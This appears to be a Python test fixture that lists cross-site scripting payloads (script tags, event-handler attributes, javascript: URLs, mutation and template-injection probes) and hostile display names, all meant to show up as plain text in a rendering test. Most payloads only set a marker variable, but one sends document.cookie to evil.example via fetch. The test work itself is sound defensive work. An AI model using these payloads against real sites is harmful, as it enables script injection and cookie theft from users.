"""Markup and script payloads that must show up as plain text, never as elements or code.

Each one, if it ran, would set ``window.__xss``.
"""

from __future__ import annotations

PAYLOADS = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<body onload=window.__xss=1>",
    '<a href="javascript:window.__xss=1">klicka</a>',
    "javascript:window.__xss=1",
    'https://example.org/"><img src=x onerror=window.__xss=1>',
    "https://example.org/<script>window.__xss=1</script>",
    'http://a.example/?q="onmouseover="window.__xss=1',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<object data=javascript:window.__xss=1></object>",
    "<embed src=javascript:window.__xss=1>",
    "<style>@import 'javascript:window.__xss=1'</style>",
    "<link rel=stylesheet href=javascript:window.__xss=1>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    "<base href=javascript:/>",
    "<form action=javascript:window.__xss=1><button>x</button></form>",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    "</li></ol><img src=x onerror=window.__xss=1>",
    "<!--<img src=--><img src=x onerror=window.__xss=1//-->",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<template><img src=x onerror=window.__xss=1></template>",
    "{{7*7}} ${7*7} <%= 7*7 %> {% raw %}",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__xss=1&#62;",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "data:text/html,<script>window.__xss=1</script>",
    "https://evil.example/\u202eexe.txt",
    '<img src="x" onerror="fetch(\'//evil.example/\'+document.cookie)">',
    '<a href="https://ok.example" onclick="window.__xss=1">ok</a>',
    "[klicka](javascript:window.__xss=1)",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<marquee onstart=window.__xss=1>x</marquee>",
    "JaVaScRiPt:window.__xss=1 //https://example.org",
    "https://example.org/path?a=1&b=<b>fet</b>#frag'\"",
)

# Display names are payloads too (at most 40 characters).
NAMES = (
    "<img src=x onerror=window.__xss=1>",
    '"><svg onload=window.__xss=1>',
    "<b>fet</b>",
)
